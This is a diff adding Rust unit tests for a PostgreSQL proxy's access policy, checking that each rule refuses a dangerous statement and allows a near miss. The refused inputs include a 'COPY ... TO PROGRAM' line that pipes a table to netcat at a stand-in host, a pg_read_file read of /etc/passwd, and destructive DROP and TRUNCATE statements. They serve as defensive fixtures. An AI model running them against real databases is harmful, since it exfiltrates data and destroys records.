@@ -1,0 +1,157 @@
+//! The policy matrix: for each rule, a statement it must refuse and a near
+//! miss it must allow, decided on what the PostgreSQL classifier makes of
+//! the SQL (as in production).
+
+use super::*;
+use crate::proxy::postgres::classify::classify;
+
+fn principal(roles: &[&str]) -> Principal {
+    Principal {
+        object_id: "oid-1".into(),
+        tollgate_roles: roles.iter().map(|r| r.to_string()).collect(),
+        ..Principal::default()
+    }
+}
+
+fn policy(toml_text: &str) -> Policy {
+    let config: PolicyConfig = toml::from_str(toml_text).expect("policy toml");
+    Policy::new(&config)
+}
+
+fn decide(policy: &Policy, roles: &[&str], sql: &str) -> Decision {
+    let operations = classify(sql);
+    policy.decide(
+        &principal(roles),
+        &Request {
+            target: "orders-db",
+            operations: &operations,
+        },
+    )
+}
+
+fn denied_by(decision: &Decision) -> Option<&str> {
+    match decision {
+        Decision::Deny { rule, .. } => Some(rule),
+        Decision::Allow { .. } => None,
+    }
+}
+
+const WRITERS: &str = r#"
+[[grant]]
+name = "writers"
+roles = ["writer"]
+kinds = ["read", "write", "ddl", "dcl", "transaction", "utility", "admin"]
+deny_tables = ["public.secrets"]
+"#;
+
+#[test]
+fn every_dangerous_rule_refuses_and_its_near_miss_passes() {
+    let policy = policy(WRITERS);
+    for (rule, refused, near_miss) in [
+        ("dangerous:drop", "DROP TABLE customers", "CREATE TABLE scratch (id int)"),
+        ("dangerous:truncate", "TRUNCATE customers", "DELETE FROM customers WHERE id = 1"),
+        ("dangerous:alter", "ALTER TABLE customers DROP COLUMN email", "CREATE INDEX ON customers (email)"),
+        ("dangerous:grant_revoke", "GRANT ALL ON customers TO PUBLIC", "SELECT * FROM customers"),
+        ("dangerous:delete_without_where", "DELETE FROM customers", "DELETE FROM customers WHERE id = 3"),
+        ("dangerous:update_without_where", "UPDATE customers SET name = 'x'", "UPDATE customers SET name = 'x' WHERE id = 1"),
+        ("dangerous:copy_program", "COPY customers TO PROGRAM 'nc evil 1'", "COPY customers TO STDOUT"),
+        ("dangerous:file_or_program_function", "SELECT pg_read_file('/etc/passwd')", "SELECT upper('/etc/passwd')"),
+        ("dangerous:set_role", "SET ROLE postgres", "SET statement_timeout = 1000"),
+        ("deny_tables", "SELECT * FROM secrets", "SELECT * FROM secrets_public_view"),
+    ] {
+        assert_eq!(denied_by(&decide(&policy, &["writer"], refused)), Some(format!("writers:{rule}").as_str()), "{refused}");
+        assert_eq!(denied_by(&decide(&policy, &["writer"], near_miss)), None, "{near_miss}");
+    }
+}
+
+#[test]
+fn kinds_are_limited_per_grant() {
+    let policy = policy(
+        r#"
+[[grant]]
+name = "readers"
+roles = ["reader"]
+kinds = ["read", "transaction"]
+read_tables = ["public.*"]
+"#,
+    );
+    assert_eq!(denied_by(&decide(&policy, &["reader"], "SELECT * FROM customers")), None);
+    assert_eq!(denied_by(&decide(&policy, &["reader"], "BEGIN")), None);
+    assert_eq!(
+        denied_by(&decide(&policy, &["reader"], "INSERT INTO customers VALUES (9)")),
+        Some("readers:kind:write")
+    );
+    assert_eq!(
+        denied_by(&decide(&policy, &["reader"], "SELECT * FROM hr.salaries")),
+        Some("readers:read_tables")
+    );
+    // One refused statement refuses the whole request.
+    assert_eq!(
+        denied_by(&decide(&policy, &["reader"], "SELECT 1; DELETE FROM customers WHERE id = 1")),
+        Some("readers:kind:write")
+    );
+}
+
+#[test]
+fn write_tables_limit_writes_only() {
+    let policy = policy(
+        r#"
+[[grant]]
+name = "loader"
+roles = ["loader"]
+kinds = ["read", "write"]
+write_tables = ["staging.*"]
+"#,
+    );
+    assert_eq!(denied_by(&decide(&policy, &["loader"], "INSERT INTO staging.rows SELECT * FROM public.customers")), None);
+    assert_eq!(
+        denied_by(&decide(&policy, &["loader"], "INSERT INTO public.customers VALUES (1)")),
+        Some("loader:write_tables")
+    );
+}
+
+#[test]
+fn unparsed_sql_is_refused_unless_allowed() {
+    let strict = policy(WRITERS);
+    assert_eq!(denied_by(&decide(&strict, &["writer"], "SELEKT 1")), Some("writers:unparsed"));
+    let lenient = policy(
+        r#"
+[[grant]]
+name = "raw"
+roles = ["*"]
+allow_unparsed = true
+"#,
+    );
+    assert_eq!(denied_by(&decide(&lenient, &[], "SELEKT 1")), None);
+}
+
+#[test]
+fn without_a_matching_grant_nothing_is_allowed() {
+    let none = policy("");
+    assert_eq!(denied_by(&decide(&none, &["writer"], "SELECT 1")), Some("no-grant"));
+    let writers = policy(WRITERS);
+    assert_eq!(denied_by(&decide(&writers, &["someone-else"], "SELECT 1")), Some("no-grant"));
+}
+
+#[test]
+fn any_of_several_grants_may_allow() {
+    let policy = policy(
+        r#"
+[[grant]]
+name = "readers"
+roles = ["reader"]
+
+[[grant]]
+name = "cleanup"
+roles = ["janitor"]
+kinds = ["write"]
+allow_dangerous = ["delete_without_where"]
+write_tables = ["public.scratch"]
+"#,
+    );
+    assert_eq!(denied_by(&decide(&policy, &["reader", "janitor"], "DELETE FROM scratch")), None);
+    assert_eq!(
+        denied_by(&decide(&policy, &["reader"], "DELETE FROM scratch")),
+        Some("readers:kind:write")
+    );
+}
